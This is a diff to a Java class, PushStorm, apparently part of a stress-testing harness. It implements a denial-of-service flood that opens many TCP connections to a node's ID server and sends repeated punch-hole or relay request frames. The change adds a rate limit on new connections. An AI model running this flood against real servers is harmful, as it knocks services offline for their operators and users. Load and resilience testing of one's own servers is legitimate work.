@@ -29,6 +29,9 @@ public final class PushStorm implements Attack {
 
   private static final int REQUESTS_OF_A_CONNECTION = 20;
 
+  /** As many as other floods of connections: without a pace the attacker takes all cores. */
+  private static final int CONNECTS_PER_SECOND = 500;
+
   private final String name;
   private final String description;
   private final boolean hasKey;
@@ -74,29 +77,37 @@ public final class PushStorm implements Attack {
       b.register().beatEvery(BEAT);
       int connections = Math.min(context.addresses(), CONNECTIONS);
       for (int i = 1; i < connections; i++) {
-        context.threads().execute(() -> storm(context));
+        context.threads().execute(() -> storm(context, connections));
       }
-      storm(context);
+      storm(context, connections);
     }
   }
 
-  private void storm(AttackContext context) {
-    byte[] punch = Messages.frame(Messages.punchHoleRequest(ID, context.node().key()));
-    byte[] relay = Messages.frame(relay());
-    byte[] repeated = hasKey && padding == 0 ? punch : relay;
-    while (!context.isOver()) {
-      try (TcpFrameConnection connection = context.connect(context.node().idServer())) {
-        if (hasKey) {
-          connection.sendEncoded(punch);
-        }
-        int most = context.addresses() == 1 ? Integer.MAX_VALUE : REQUESTS_OF_A_CONNECTION;
-        for (int i = 0; i < most && !context.isOver(); i++) {
-          connection.sendEncoded(repeated);
-          context.onSent(1);
-        }
-      } catch (IOException e) {
-        context.pause(Duration.ofMillis(1)); // closed by the node: the next connection
+  private void storm(AttackContext context, int connections) {
+    if (context.addresses() == 1) {
+      while (!context.isOver()) {
+        request(context, Integer.MAX_VALUE);
       }
+    } else {
+      context.repeat(
+          (double) CONNECTS_PER_SECOND / connections,
+          () -> request(context, REQUESTS_OF_A_CONNECTION));
+    }
+  }
+
+  private void request(AttackContext context, int most) {
+    byte[] punch = Messages.frame(Messages.punchHoleRequest(ID, context.node().key()));
+    byte[] repeated = hasKey && padding == 0 ? punch : Messages.frame(relay());
+    try (TcpFrameConnection connection = context.connect(context.node().idServer())) {
+      if (hasKey) {
+        connection.sendEncoded(punch);
+      }
+      for (int i = 0; i < most && !context.isOver(); i++) {
+        connection.sendEncoded(repeated);
+        context.onSent(1);
+      }
+    } catch (IOException e) {
+      context.pause(Duration.ofMillis(1)); // closed by the node: the next connection
     }
   }
 
